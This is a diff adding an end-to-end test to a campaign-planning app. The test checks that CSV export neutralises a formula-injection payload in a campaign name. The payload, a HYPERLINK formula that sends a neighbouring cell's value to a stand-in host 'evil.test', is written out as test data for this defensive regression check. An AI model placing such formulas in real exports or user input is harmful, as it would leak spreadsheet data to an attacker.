@@ -2,6 +2,7 @@ import { readFile } from 'node:fs/promises';
 import type { Browser, Page } from 'playwright-core';
 import { afterAll, beforeAll, describe, expect, it } from 'vitest';
 import { launchChromium } from './support/chromium.ts';
+import { apiAs } from './support/plans.ts';
 import { type RunningServer, startServer } from './support/server.ts';
 import { newPage, screenshot, signIn } from './support/session.ts';
 
@@ -216,6 +217,39 @@ describe('campaigns', () => {
     await expect.poll(() => gridHasText(page, 'Sabores del Sur')).toBe(true);
     await expect.poll(() => page.locator('.ag-center-cols-container .ag-row').count()).toBe(1);
     await expect.poll(() => page.getByTestId('tab-pending').innerText()).toMatch(/0/);
+    await page.context().close();
+  });
+
+  it('exports a formula-like campaign name as text, not as a formula (issue 23)', async () => {
+    const formula = '=HYPERLINK("http://evil.test/?d="&B2,"Open")';
+    const brand = `@Polar ${Date.now()}`;
+    const day = (n: number) => new Date(Date.now() + n * 86_400_000).toISOString().slice(0, 10);
+    await apiAs(server, 'planner@plano.test', '/create_campaign', {
+      brand,
+      campaign_name: formula,
+      start_date: day(3),
+      end_date: day(40),
+      budget: 45_000_000,
+      states: ['Región Metropolitana de Santiago'],
+      cities: ['All'],
+      media_type: 'all',
+    });
+    const page = await newPage(browser, server.url);
+    await signIn(page, 'planner@plano.test');
+    await page.goto(`/admin/campaigns?search=${encodeURIComponent(brand)}`);
+    await expect.poll(() => page.locator('.ag-center-cols-container .ag-row').count()).toBe(1);
+    // The grid shows the name as typed; only the file guards it.
+    await expect.poll(() => gridHasText(page, formula)).toBe(true);
+    const [download] = await Promise.all([
+      page.waitForEvent('download'),
+      page.getByTestId('export-csv').click(),
+    ]);
+    const lines = (await readFile((await download.path()) as string, 'utf8')).trim().split(/\r?\n/);
+    expect(lines).toHaveLength(2);
+    // OWASP's rule: a leading ' makes the cell text, and the cell is quoted (its quotes doubled).
+    expect(lines[1]).toMatch(
+      /^"'=HYPERLINK\(""http:\/\/evil\.test\/\?d=""&B2,""Open""\)","'@Polar \d+","planner@plano\.test","45000000",/,
+    );
     await page.context().close();
   });
 
